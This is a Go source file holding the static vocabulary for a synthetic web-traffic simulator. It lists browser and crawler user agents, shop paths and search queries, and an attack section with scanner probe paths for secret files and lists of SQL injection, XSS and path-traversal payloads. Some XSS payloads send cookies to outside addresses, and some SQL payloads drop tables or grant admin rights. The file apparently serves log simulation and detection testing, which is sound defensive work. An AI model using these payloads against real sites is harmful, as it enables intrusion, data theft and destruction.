package simulate

// This file holds the static vocabulary the generator draws from: user
// agents, site paths, search text and attack payloads. Everything is written
// for this simulator; the strings imitate the shape of real traffic.

// crawler describes a search-engine crawler: its user agent and the network
// it crawls from.
type crawler struct {
	ua   string
	net4 [3]byte // first three octets of its IPv4 /24
	net6 [6]byte // first six bytes of its IPv6 /48
}

// isMobileUA reports whether ua is a phone or tablet browser.
func isMobileUA(ua string) bool {
	for i := 0; i+6 <= len(ua); i++ {
		switch ua[i : i+6] {
		case "Mobile", "iPad; ", "Androi":
			return true
		}
	}
	return false
}

// vocab is the static vocabulary one Generator draws from. It is built once
// by newVocab and never modified.
type vocab struct {
	browserUAs        []string
	apiUAs            []string
	crawlers          []crawler
	monitorUAs        []string
	publicNets4       [][2]byte
	publicNets6       [][4]byte
	categories        []string
	productSlugs      []string
	blogSlugs         []string
	helpTopics        []string
	searchQueries     []string
	apiEndpoints      []string
	coreAssets        []string
	imageAssets       []string
	scannerUAs        []string
	probePaths        []string
	sqliPayloads      []string
	xssPayloads       []string
	traversalPayloads []string
	traversalTargets  []string
	enumWords         []string
	enumExts          []string
	badbotUAs         []string
}

// newVocab returns the simulator's vocabulary.
func newVocab() *vocab {
	return &vocab{
		// browserUAs are desktop and mobile browser user agents, roughly in order of
		// popularity (the generator picks with a bias towards the front).
		browserUAs: []string{
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
			"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
			"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
			"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0",
			"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
			"Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
			"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
			"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
			"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0",
			"Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
			"Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
			"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
			"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 OPR/124.0.0.0",
			"Mozilla/5.0 (Android 15; Mobile; rv:145.0) Gecko/145.0 Firefox/145.0",
			"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Safari/605.1.15",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
			"Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1",
			"Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
			"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
			"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/145.0 Mobile/15E148 Safari/605.1.15",
			"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
			"Mozilla/5.0 (Linux; Android 12; moto g(60)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
			"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36 Vivaldi/7.5",
			"Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
			"Mozilla/5.0 (iPad; CPU OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
		},

		// apiUAs are HTTP client libraries and SDKs that poll the JSON API.
		apiUAs: []string{
			"python-requests/2.31.0",
			"python-requests/2.32.3",
			"okhttp/4.12.0",
			"Go-http-client/2.0",
			"Go-http-client/1.1",
			"axios/1.7.9",
			"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
			"Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)",
			"ShopApp/5.12.1 (iPhone; iOS 18.6; Scale/3.00)",
			"Apache-HttpClient/4.5.14 (Java/17.0.12)",
			"curl/8.5.0",
			"aiohttp/3.10.5",
		},

		crawlers: []crawler{
			{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", [3]byte{66, 249, 66}, [6]byte{0x20, 0x01, 0x48, 0x60, 0x48, 0x01}},
			{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", [3]byte{157, 55, 39}, [6]byte{0x20, 0x01, 0x04, 0x98, 0xfe, 0x81}},
			{"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.7444.59 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", [3]byte{66, 249, 68}, [6]byte{0x20, 0x01, 0x48, 0x60, 0x48, 0x01}},
			{"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", [3]byte{5, 255, 253}, [6]byte{0x2a, 0x02, 0x06, 0xb8, 0xc0, 0x00}},
			{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", [3]byte{17, 58, 98}, [6]byte{0x20, 0x01, 0x04, 0x88, 0x00, 0x01}},
			{"DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", [3]byte{20, 191, 45}, [6]byte{0x20, 0x01, 0x04, 0x98, 0xfe, 0x82}},
		},

		// monitorUAs are uptime checkers.
		monitorUAs: []string{
			"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
			"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
			"Blackbox Exporter/0.25.0",
			"Mozilla/5.0 (compatible; StatusCake)",
			"kube-probe/1.31",
			"Better Stack Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
		},

		// publicNets4 are /16 networks that look like consumer and business ISP
		// space. None is reserved, private or used for documentation.
		publicNets4: [][2]byte{
			{2, 201}, {5, 188}, {24, 48}, {37, 120}, {46, 114}, {62, 30}, {71, 190}, {73, 92},
			{77, 8}, {79, 212}, {82, 145}, {86, 21}, {90, 54}, {94, 226}, {98, 210}, {101, 110},
			{109, 190}, {112, 134}, {121, 165}, {151, 41}, {154, 72}, {176, 63}, {177, 55}, {186, 84},
			{188, 118}, {189, 6}, {200, 98}, {212, 58}, {41, 190}, {105, 112}, {84, 17}, {68, 46},
		},

		// publicNets6 are /32 networks that look like ISP IPv6 allocations.
		publicNets6: [][4]byte{
			{0x2a, 0x02, 0x81, 0x08}, {0x2a, 0x01, 0xcb, 0x00}, {0x26, 0x00, 0x17, 0x00}, {0x26, 0x01, 0x02, 0x80},
			{0x2a, 0x00, 0x23, 0xc5}, {0x20, 0x03, 0x00, 0xe2}, {0x24, 0x09, 0x40, 0x50}, {0x28, 0x04, 0x14, 0xc0},
			{0x2a, 0x02, 0xa0, 0x3f}, {0x24, 0x0e, 0x03, 0x4a},
		},

		// Site structure.

		categories: []string{
			"shoes", "jackets", "bags", "accessories", "outdoor", "kitchen", "books", "garden", "toys", "electronics",
			"sale", "new-arrivals",
		},

		productSlugs: []string{
			"trail-running-shoe", "waterproof-shell-jacket", "merino-wool-socks", "leather-weekender-bag", "cast-iron-skillet",
			"insulated-water-bottle", "noise-cancelling-headphones", "kids-rain-boots", "bamboo-cutting-board", "down-sleeping-bag",
			"folding-camp-chair", "linen-shirt", "espresso-grinder", "garden-hose-reel", "wireless-charger", "wooden-train-set",
			"hiking-backpack-35l", "chef-knife-8in", "yoga-mat", "usb-c-hub", "ceramic-teapot", "fleece-hoodie", "led-headlamp",
			"paperback-novel-o-brien", "silk-scarf", "pruning-shears", "board-game-classic", "canvas-tote", "smart-thermostat", "rain-poncho",
		},

		blogSlugs: []string{
			"how-to-choose-running-shoes", "spring-garden-checklist", "our-repair-program", "packing-for-a-week-with-one-bag",
			"care-guide-leather", "behind-the-scenes-warehouse", "best-gifts-under-50", "sustainable-materials-explained",
			"sizing-guide-jackets", "coffee-brewing-basics", "winter-camping-tips", "meet-the-makers-ireland",
		},

		helpTopics: []string{"shipping", "returns", "payment", "sizes", "warranty", "contact"},

		// searchQueries are what real visitors type into the search box, including
		// text that superficially resembles SQL or markup and must not be flagged.
		searchQueries: []string{
			"red running shoes", "waterproof jacket women", "O'Brien", "rock 'n' roll t-shirt", "select wines gift box",
			"union jack mug", "order by price", "sort order by price low to high", "men's boots size 44", "kids' rain boots",
			"cast iron", "drop-down table", "script writing notebook", "\"noise cancelling\" headphones", "50% off",
			"café au lait bowls", "Müller hiking socks", "d'Artagnan book", "where is my order", "1=1 band poster",
			"tea & coffee", "backpack 35l", "gift card", "usb-c hub 4k", "yoga mat <5mm", "best sellers",
			"return policy", "sleeping bag -10", "wool socks", "teapot", "led lamp", "jacket", "shoes",
			"bags", "o'neill", "it's raining", "the \"good\" knife", "size chart", "delete account", "insert for shoes",
		},

		// apiEndpoints are the JSON API's read endpoints. A %d-style id or timestamp
		// parameter is appended by the generator.
		apiEndpoints: []string{
			"/api/v1/orders?status=open&limit=50&since=",
			"/api/v1/products?per_page=100&page=",
			"/api/v1/inventory/",
			"/api/v1/prices?currency=EUR&ids=",
			"/api/v1/notifications?after=",
			"/api/v1/cart/",
			"/api/v1/status",
			"/api/v1/shipments?carrier=dhl&updated_after=",
		},

		// Static assets: every page loads the core bundle, then page images.
		coreAssets: []string{
			"/static/css/app.3f9c1a.css",
			"/static/js/runtime.8b21e0.js",
			"/static/js/vendor.c7d4f2.js",
			"/static/js/app.51e9ab.js",
			"/static/fonts/inter-var.woff2",
			"/static/css/print.0a4d11.css",
			"/static/fonts/inter-var-italic.woff2",
			"/static/img/logo.svg",
		},

		imageAssets: []string{
			"/static/img/hero-spring.webp", "/static/img/banner-sale.png", "/static/img/icons/cart.svg", "/static/img/icons/user.svg",
			"/static/img/icons/search.svg", "/static/img/payment/visa.svg", "/static/img/payment/mastercard.svg", "/static/img/payment/paypal.svg",
			"/static/img/social/instagram.png", "/static/img/social/facebook.png", "/static/img/placeholder.png", "/static/js/chunk-product.9d3e.js",
			"/static/js/chunk-search.77a1.js", "/static/js/chunk-account.12bf.js", "/static/css/chunk-product.e02c.css", "/static/img/badges/eco.png",
		},

		// Attack vocabulary.

		// scannerUAs are vulnerability scanners that announce themselves.
		scannerUAs: []string{
			"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004417)",
			"sqlmap/1.8.11#stable (https://sqlmap.org)",
			"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
			"WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)",
			"Mozilla/5.0 zgrab/0.x",
			"Fuzz Faster U Fool v2.1.0-dev",
		},

		// probePaths are what a vulnerability scanner asks for: secrets, admin
		// panels, backups and known-vulnerable endpoints.
		probePaths: []string{
			"/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.aws/credentials",
			"/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/wp-content/debug.log", "/phpmyadmin/", "/pma/index.php",
			"/admin/", "/administrator/index.php", "/server-status", "/backup.zip", "/backup.sql", "/db.sql.gz", "/site.tar.gz",
			"/config.php.bak", "/web.config", "/id_rsa", "/actuator/env", "/actuator/heapdump", "/cgi-bin/test.cgi",
			"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/console/", "/solr/admin/info/system", "/owa/auth/logon.aspx",
			"/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/api/v1/../../../../etc/passwd", "/index.php?page=../../../../etc/passwd",
			"/search?q=%27%20OR%20%271%27%3D%271", "/?q=<script>alert(7)</script>", "/login.action", "/jmx-console/", "/telescope/requests",
			"/debug/pprof/", "/.vscode/sftp.json", "/storage/logs/laravel.log", "/elmah.axd", "/cgi-bin/luci", "/boaform/admin/formLogin",
			"/HNAP1/", "/hudson", "/manager/html", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/shell.php?cmd=id", "/info.php",
		},

		// sqliPayloads are SQL injection attempts of several families: tautologies,
		// UNION-based extraction, error-based, time-based blind, stacked queries and
		// obfuscated forms.
		sqliPayloads: []string{
			"1' OR '1'='1",
			"1 OR 1=1-- -",
			"x' or 2>1 or 'a'='b",
			"' UNION SELECT username,password_hash FROM users--",
			"7) UNION ALL SELECT NULL,NULL,version()#",
			"-3 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()",
			"1'; WAITFOR DELAY '0:0:6'--",
			"12 AND SLEEP(5)",
			"1' AND (SELECT 7 FROM (SELECT(SLEEP(4)))q)-- x",
			"' OR pg_sleep(5)--",
			"1; DROP TABLE sessions--",
			"5'; UPDATE users SET role='admin' WHERE id=1;--",
			"admin'--",
			"1' AND extractvalue(1,concat(0x7e,(SELECT user())))--",
			"1 AND 1=CAST((SELECT current_user) AS int)",
			"99' ORDER BY 9--",
			"1/**/OR/**/1=1",
			"1 UnIoN/**/SeLeCt 1,2,@@version",
			"' OR ''='",
			"1' AND ascii(substr((SELECT password FROM users LIMIT 1),1,1))>64--",
			"1%27%20OR%20%27x%27%3D%27x",
			"%2527%2520OR%25201%253D1--",
			"shoes\" OR \"\"=\"",
			"1;SELECT BENCHMARK(5000000,MD5(0x41))",
		},

		// xssPayloads are cross-site scripting attempts.
		xssPayloads: []string{
			"<script>alert(1)</script>",
			"\"><img src=x onerror=alert(document.domain)>",
			"<svg/onload=confirm(42)>",
			"javascript:alert(document.cookie)",
			"'-alert(1)-'",
			"<iframe src=\"javascript:alert(`x`)\"></iframe>",
			"<body onpageshow=prompt(1)>",
			"%3Cscript%3Efetch('//203.0.113.66/c?'+document.cookie)%3C/script%3E",
			"<details open ontoggle=alert(9)>",
			"\\\"><script>alert(String.fromCharCode(88,83,83))</script>",
			"<img src=1 onerror=\"eval(atob('YWxlcnQoMSk='))\">",
			"<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
			"<math><mtext><table><mglyph><style><img src=x onerror=alert(3)>",
			"</title><script>document.location='//198.51.100.9/'+document.cookie</script>",
		},

		// traversalPayloads are path traversal and file inclusion attempts.
		traversalPayloads: []string{
			"../../../../etc/passwd",
			"..%2f..%2f..%2f..%2fetc%2fshadow",
			"....//....//....//etc/hosts",
			"%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows/win.ini",
			"..\\..\\..\\..\\boot.ini",
			"..%252f..%252f..%252fetc/passwd",
			"/proc/self/environ",
			"%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
			"php://filter/convert.base64-encode/resource=index.php",
			"file:///etc/passwd",
			"..;/..;/..;/WEB-INF/web.xml",
			"../../../../../../var/log/nginx/access.log",
		},

		// traversalTargets are parameters and paths that take a file name.
		traversalTargets: []string{
			"/download?file=", "/api/v1/export?path=", "/image?src=", "/static/", "/help/", "/index.php?page=",
		},

		// enumWords and enumExts build a content-discovery word list.
		enumWords: []string{
			"admin", "backup", "old", "test", "dev", "private", "uploads", "config", "db", "logs", "tmp", "staging",
			"api-docs", "swagger", "internal", "secret", "files", "data", "export", "import", "cms", "panel", "portal",
			"dashboard", "install", "setup", "archive", "bak", "dump", "sql", "user", "users", "members", "phpinfo",
			"server", "status", "debug", "console", "shell", "wp", "blog-old", "v1", "v2", "beta", "legacy", "mail",
			"webmail", "git", "svn", "env", "cache", "cron", "jobs", "reports", "invoice", "invoices", "assets-old",
		},

		enumExts: []string{"", "/", ".php", ".bak", ".old", ".zip", ".txt", ".html", ".tar.gz", ".json", ".sql", "~"},

		// badbotUAs are malformed or bare user agents; the empty string means the
		// request carried no User-Agent header.
		badbotUAs: []string{
			"",
			"-",
			"Mozilla/5.0",
			"Mozilla/5.0 (",
			"x",
			"Mozilla/4.0\t(compatible; MSIE 6.0; Windows NT 5.1)",
			"Mozilla/5.0 (compatible; \"fetcher\"\\1.0)",
			"\x01\x02bot",
			"Java/1.8.0_151",
			"python-urllib/3.6",
			"Scrapy/2.11.2 (+https://scrapy.org)",
			"Mozilla/5.0 (Windows NT 6.1; WOW64) \xe9\xff",
		},
	}
}
